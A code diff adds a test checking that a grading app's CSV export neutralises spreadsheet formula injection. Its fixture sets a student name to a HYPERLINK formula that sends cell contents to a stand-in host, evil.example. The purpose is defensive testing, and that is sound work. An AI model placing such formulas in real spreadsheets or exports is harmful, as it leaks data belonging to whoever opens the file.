@@ -178,6 +178,23 @@ def test_grade_exports(client_for, db, course_setup, tiny_reports):
     assert json.loads(archive.read("alice@example.edu/results.json"))["score"] == 7.5
 
 
+def test_grades_csv_cells_are_never_formulas(client_for, db, course_setup, tiny_reports):
+    """A name or nickname a spreadsheet would run ('=HYPERLINK(...)', '+cmd', '@SUM') reaches the
+    grades CSV as text."""
+    alice = db.get(User, course_setup["alice"].id)
+    alice.name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    alice.nickname = "@SUM(1+1)"
+    db.commit()
+    store_graded_run(db, alice, course_setup["assignment"], measured(tiny_reports["optimized"], 30.0))
+    body = client_for("tara").get("/staff/assignments/tiny/grades.csv").get_data(as_text=True)
+    row = next(r for r in csv.DictReader(io.StringIO(body)) if r["email"] == "alice@example.edu")
+    assert row["name"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    assert row["nickname"] == "'@SUM(1+1)"
+    assert float(row["total"]) == 7.5                       # numbers stay numbers
+    for cell in (c for r in csv.reader(io.StringIO(body)) for c in r):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
 def test_roster_import_all_or_nothing_with_login_links(client_for, db, course_setup):
     ta = client_for("tara")
     bad_csv = b"email,name,role\nnew1@example.edu,New One,student\nnot-an-email,X,student\nnew2@example.edu,Two,wizard\n"
